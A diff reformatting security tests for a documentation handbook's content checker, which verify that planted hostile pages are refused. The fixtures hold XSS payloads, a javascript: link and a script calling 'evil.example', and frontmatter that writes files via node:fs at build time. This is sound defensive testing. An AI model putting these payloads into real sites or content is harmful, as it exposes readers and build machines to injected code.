@@ -48,7 +48,14 @@ function buildWithoutCheck(root: string) {
 function expectRefusedWithoutSideEffects(root: string, pwned: string, reason: RegExp) {
 	const built = buildWithoutCheck(root);
 	expect(built.code, built.output).not.toBe(0);
-	if (process.env.SHOW_BUILD) console.log(built.output.split('\n').filter((l) => /error|policy|refus|invalid|does not match/i.test(l)).slice(0, 6).join('\n'));
+	if (process.env.SHOW_BUILD)
+		console.log(
+			built.output
+				.split('\n')
+				.filter((l) => /error|policy|refus|invalid|does not match/i.test(l))
+				.slice(0, 6)
+				.join('\n'),
+		);
 	expect(built.output).toMatch(reason);
 	expect(existsSync(pwned)).toBe(false);
 	expect(existsSync(join(root, 'dist', 'index.html'))).toBe(false);
@@ -65,7 +72,9 @@ describe('code in a page never runs at build time', () => {
 		expect(code).toBe(1);
 		expect(existsSync(pwned)).toBe(false);
 		expect(errorsOf(diagnostics)).toEqual([`${SOP}:${SOP_LINES + 1} mdx/unsafe`, `${SOP}:${SOP_LINES + 3} mdx/unsafe`]);
-		expect(diagnostics.find((d) => d.rule === 'mdx/unsafe')?.message).toMatch(/^runs code: \{\(\(\) => \{ globalThis\.process\.getBuiltinM…\}\. A page may hold only comments in braces\.$/);
+		expect(diagnostics.find((d) => d.rule === 'mdx/unsafe')?.message).toMatch(
+			/^runs code: \{\(\(\) => \{ globalThis\.process\.getBuiltinM…\}\. A page may hold only comments in braces\.$/,
+		);
 		expectRefusedWithoutSideEffects(root, pwned, /content policy[\s\S]*runs code/);
 	}, 120_000);
 
@@ -98,7 +107,10 @@ describe('code in a page never runs at build time', () => {
 
 	it('4. refuses frontmatter the build would split elsewhere (a line starting with ---)', () => {
 		const { root, pwned } = plant((p) => ({
-			[SOP]: BASE[SOP]!.replace('principles: [verify-first]\n', `principles: [verify-first]\n---x: 1\nexport const p = globalThis.process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(p)}, 'x')\n<script>alert(1)</script>\n`),
+			[SOP]: BASE[SOP]!.replace(
+				'principles: [verify-first]\n',
+				`principles: [verify-first]\n---x: 1\nexport const p = globalThis.process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(p)}, 'x')\n<script>alert(1)</script>\n`,
+			),
 		}));
 		const { code, diagnostics } = checkJson(root);
 		expect(code).toBe(1);
@@ -107,7 +119,7 @@ describe('code in a page never runs at build time', () => {
 			`line 11 starts with --- but is not a fence ("---x: 1"). The site's build would end the frontmatter there and publish the rest as the page, while the check reads it as fields.`,
 		);
 		// The build reads the rest as the page: its own pipeline finds the script there.
-		expectRefusedWithoutSideEffects(root, pwned, /content policy[\s\S]*bill-run\.mdx:13:1  uses a <script>/);
+		expectRefusedWithoutSideEffects(root, pwned, /content policy[\s\S]*bill-run\.mdx:13:1 {2}uses a <script>/);
 	}, 120_000);
 });
 
@@ -120,11 +132,7 @@ describe('no script reaches a reader', () => {
 		}));
 		const { code, diagnostics } = checkJson(root);
 		expect(code).toBe(1);
-		expect(errorsOf(diagnostics)).toEqual([
-			`${guide}:5 mdx/unsafe`,
-			`${guide}:7 mdx/unsafe`,
-			...[1, 3, 5, 7, 9, 13].map((n) => `${SOP}:${SOP_LINES + n} mdx/unsafe`),
-		]);
+		expect(errorsOf(diagnostics)).toEqual([`${guide}:5 mdx/unsafe`, `${guide}:7 mdx/unsafe`, ...[1, 3, 5, 7, 9, 13].map((n) => `${SOP}:${SOP_LINES + n} mdx/unsafe`)]);
 		expect(diagnostics.filter((d) => d.file === SOP).map((d) => d.message)).toMatchInlineSnapshot(`
 			[
 			  "gives <img> the attribute "onerror", an event handler that would run script in readers' browsers.",
@@ -143,18 +151,21 @@ describe('no script reaches a reader', () => {
 			'handbook.config.yaml': `${BASE['handbook.config.yaml']!}repository:\n  edit_url: "javascript:fetch('https://evil.example/{path}')"\n`,
 			[SOP]: BASE[SOP]!.replace('title: Acme weekly bill run', 'title: "Bill run</title><script>alert(1)</script>"'),
 			'src/content/people/ben-ode.yaml': 'name: "Ben <img src=x onerror=alert(1)>"\nroles: [csa]\npod: east\n',
-			'src/content/docs/index.mdx': "---\ntitle: Home\nhead:\n  - tag: script\n    attrs: { src: 'https://evil.example/x.js' }\nbanner:\n  content: '<img src=x onerror=alert(1)>'\n---\n\nWelcome.\n",
+			'src/content/docs/index.mdx':
+				"---\ntitle: Home\nhead:\n  - tag: script\n    attrs: { src: 'https://evil.example/x.js' }\nbanner:\n  content: '<img src=x onerror=alert(1)>'\n---\n\nWelcome.\n",
 		}));
 		const { code, diagnostics } = checkJson(root);
 		expect(code).toBe(1);
 		// An SOP or a config that cannot be read leaves other rules short of data; these are the findings that matter.
-		expect(errorsOf(diagnostics)).toEqual(expect.arrayContaining([
-			'handbook.config.yaml:5 config/schema',
-			'src/content/docs/index.mdx:3 frontmatter/schema',
-			'src/content/docs/index.mdx:6 frontmatter/schema',
-			'src/content/people/ben-ode.yaml:1 frontmatter/schema',
-			`${SOP}:2 frontmatter/schema`,
-		]));
+		expect(errorsOf(diagnostics)).toEqual(
+			expect.arrayContaining([
+				'handbook.config.yaml:5 config/schema',
+				'src/content/docs/index.mdx:3 frontmatter/schema',
+				'src/content/docs/index.mdx:6 frontmatter/schema',
+				'src/content/people/ben-ode.yaml:1 frontmatter/schema',
+				`${SOP}:2 frontmatter/schema`,
+			]),
+		);
 		expect(diagnostics.find((d) => d.file === SOP)?.message).toBe(
 			'title is "Bill run</title><script>alert(1)</script>", which holds < or > or a control character. Names and titles are plain text on one line.',
 		);
@@ -198,7 +209,9 @@ describe('what the check reads is what the build reads', () => {
 		symlink(join(root, 'outside.mdx'), link);
 		const result = runCli(['check', '--root', root, '--today', TODAY]);
 		expect(result.code).toBe(1);
-		expect(result.stdout).toContain('src/content/docs/secrets.mdx\n  1:1     error    is a symbolic link; the handbook reads only real files and folders, so it is not read and may not be published.  [file/not-regular]');
+		expect(result.stdout).toContain(
+			'src/content/docs/secrets.mdx\n  1:1     error    is a symbolic link; the handbook reads only real files and folders, so it is not read and may not be published.  [file/not-regular]',
+		);
 		expect(result.stdout).not.toContain('SECRET-VALUE');
 	});
 
@@ -219,7 +232,7 @@ describe('what the check reads is what the build reads', () => {
 function symlink(target: string, path: string) {
 	mkdirSync(join(path, '..'), { recursive: true });
 	// A plain call: the test runs where links can be made (Linux CI).
-	// eslint-disable-next-line @typescript-eslint/no-require-imports
+
 	(process.getBuiltinModule('node:fs') as typeof import('node:fs')).symlinkSync(target, path);
 }
 
@@ -250,7 +263,10 @@ describe('what the policy allows', () => {
 	it("allows a component of the site's own, imported by a path that resolves into src/components/", () => {
 		const root = writeHandbook();
 		const components = relative(join(root, 'src/content/sops/clients/acme'), join(PROJECT, 'src/components'));
-		writeFileSync(join(root, SOP), `${BASE[SOP]!}\nimport StatusBadge from '${components}/StatusBadge.astro';\n\n<StatusBadge state="current" />\n\n<abbr title="Bill pay associate">BPA</abbr>\n`);
+		writeFileSync(
+			join(root, SOP),
+			`${BASE[SOP]!}\nimport StatusBadge from '${components}/StatusBadge.astro';\n\n<StatusBadge state="current" />\n\n<abbr title="Bill pay associate">BPA</abbr>\n`,
+		);
 		const allowed = checkHandbook({ root, today: TODAY, rules: RULES.filter((r) => r.id === 'mdx/unsafe') }).report;
 		expect(allowed.diagnostics).toEqual([]);
 	});
